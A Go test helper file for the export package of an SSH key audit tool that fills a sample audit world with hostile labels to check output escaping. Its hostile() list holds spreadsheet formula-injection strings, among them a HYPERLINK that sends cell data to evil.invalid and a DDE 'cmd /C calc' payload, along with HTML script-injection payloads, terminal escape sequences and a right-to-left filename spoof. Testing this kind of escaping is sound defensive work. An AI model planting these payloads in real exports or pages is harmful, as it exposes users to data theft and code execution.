package export

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"latchkey/api"
	"latchkey/core/audit"
	"latchkey/core/inventory"
	"latchkey/core/say"
	"latchkey/keys"
)

func now() time.Time { return time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC) }

func ago(days int) time.Time { return now().AddDate(0, 0, -days) }

// hostile are labels, comments and names as nobody's friend would write them.
func hostile() []string {
	return []string{
		"=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "a;=1+1", `a";=cmd|' /C calc'!A0;"`,
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.Hash}}", "</style><svg onload=alert(1)>", "javascript:alert(1)",
		"\x1b[31mred\x1b]0;title\x07", "\u202Egnp.exe\u2066", "zero\x00byte", "not\xff\xfeutf8", strings.Repeat("x", 100_000), "line\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
		"[link](http://evil.invalid) {0} {{1}}", "a,b;c\\n", "", " ", "\u2028\u2029", "𝕏 漢字 é",
	}
}

// sample is a world in which labels, comments, paths, projects and names of machines
// are what is given, each in turn.
func sample(t testing.TB, texts []string, nKeys int) *Document {
	t.Helper()
	w := &audit.World{Now: now()}
	text := func(i int) string {
		if len(texts) == 0 {
			return fmt.Sprintf("build-%d", i)
		}
		return texts[i%len(texts)]
	}
	w.Accounts = []audit.Account{
		{ID: "bb-1", Forge: "Bitbucket Cloud", Server: "bitbucket https://bitbucket.org", Login: text(0), User: text(1), Credential: "t-1", TokenEnds: ago(-20), TellsUse: true},
		{ID: "gh-1", Forge: "GitHub", Server: "github https://github.com", Login: "ada", User: "Ada", Credential: "t-2", ForgetsAfter: 365 * 24 * time.Hour, TellsUse: true},
	}
	for i := range max(nKeys/2, 2) {
		w.Repos = append(w.Repos, audit.Repo{Account: w.Accounts[i%2].ID, Path: fmt.Sprintf("acme/%s-%d", text(i), i), Project: text(i + 3), Keys: i%3 - 1, Public: i%7 == 0})
	}
	w.Machines = []audit.Machine{{Name: "m" + text(2), User: text(4), Ends: ago(-40)}}
	for i := range nKeys {
		k := audit.Key{Fingerprint: keys.Fingerprint(fmt.Sprintf("SHA256:%043d", i)), Type: []string{"ed25519", "rsa", "dsa"}[i%3], Bits: []int{256, 2048, 1024}[i%3],
			Label: text(i), Comment: text(i + 1), Private: inventory.PrivateKeyUnknown, Made: ago(i % 900), Register: audit.Register{Owner: text(i), Purpose: text(i + 2), Machine: text(i)}}
		if i%10 == 0 {
			k.Register.Ends, k.Register.Review = ago(-5), ago(3)
		}
		for j := range 1 + i%2 {
			r := w.Repos[(i+j)%len(w.Repos)]
			k.Places = append(k.Places, audit.Place{Account: r.Account, Target: r.Path, KeyID: fmt.Sprint(i), Label: text(i), Access: []api.Access{api.Read, api.ReadWrite}[i%2],
				Use: inventory.Use{Created: ago(i % 900), Read: ago(0), Last: ago(i % 400)}})
		}
		if i%20 == 0 {
			w.Machines[0].Keys = append(w.Machines[0].Keys, audit.MachineKey{Fingerprint: k.Fingerprint})
		}
		w.Keys = append(w.Keys, k)
	}
	policy := audit.DefaultPolicy()
	policy.Exceptions = []audit.Exception{{Rules: []string{"on-public"}, Match: "acme/*", Reason: text(9), Owner: text(5), Until: ago(-30)}}
	policy.LabelText = "^ci@"
	if err := policy.Prepare(); err != nil {
		t.Fatal(err)
	}
	report, err := audit.Judge(t.Context(), w, policy)
	if err != nil {
		t.Fatal(err)
	}
	return &Document{World: w, Report: report, Policy: policy, Version: "1.2.3", By: text(6),
		Plans: []Plan{{ID: 1, At: ago(2), Title: say.Plain(text(7)), State: "done", Hash: "abcd"}},
		Log:   []Entry{{At: ago(2), Who: text(8), What: "place", State: "done", Place: text(9), Key: text(10)}}, LogSize: 3, LogHead: "ef01"}
}

func written(t testing.TB, f Format, d *Document) string {
	t.Helper()
	var out bytes.Buffer
	if err := Write(&out, f, d); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
